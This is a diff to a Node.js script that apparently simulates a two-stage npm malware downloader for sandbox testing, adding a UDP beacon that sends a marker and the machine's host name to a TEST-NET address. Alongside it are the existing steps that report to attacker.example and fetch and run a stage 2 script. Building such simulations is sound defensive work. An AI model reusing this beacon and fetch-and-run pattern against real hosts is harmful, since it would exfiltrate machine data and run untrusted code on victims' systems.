@@ -1,10 +1,11 @@
 // Simulates a two-stage downloader, the shape of most npm malware since
 // ua-parser-js 0.7.29 (October 2021): the install script resolves the
 // attacker's host, reports the machine to it (a JSON POST), fetches a stage 2
-// script and runs it, and talks TLS to a second host.
+// script and runs it, talks TLS to a second host, and sends a UDP beacon.
 // What this does instead, harmlessly: every name is under attacker.example
 // (.example is reserved by RFC 2606 and never resolves on the Internet), the
-// report holds a marker and the host name only, and the stage 2 it runs is
+// beacon goes to 203.0.113.9 (TEST-NET-3, routed nowhere), the report and
+// the beacon hold a marker and the host name only, and the stage 2 it runs is
 // whatever the sandbox's sinkhole answered (a script that does nothing). It
 // acts only where the network has no interface but loopback, i.e. in a
 // sandbox; anywhere else it prints a line and exits.
@@ -12,6 +13,7 @@
 // says how far it got (in the offline network: nowhere, every step fails).
 'use strict';
 const cp = require('child_process');
+const dgram = require('dgram');
 const dns = require('dns');
 const fs = require('fs');
 const http = require('http');
@@ -65,4 +67,13 @@ const hello = () => new Promise((done) => {
   s.on('timeout', () => { say('tls', 'timeout'); s.destroy(); done(); });
 });
 
-lookup().then(report).then(stage2).then(hello).then(() => process.exit(0));
+const beacon = () => new Promise((done) => {
+  const u = dgram.createSocket('udp4');
+  const end = (outcome) => { say('beacon', outcome); u.close(); done(); };
+  u.connect(5555, '203.0.113.9', (err) => {
+    if (err) return end(err.code);
+    return u.send(`sf-downloader-beacon ${os.hostname()}`, (e) => end(e ? e.code : 'sent'));
+  });
+});
+
+lookup().then(report).then(stage2).then(hello).then(beacon).then(() => process.exit(0));
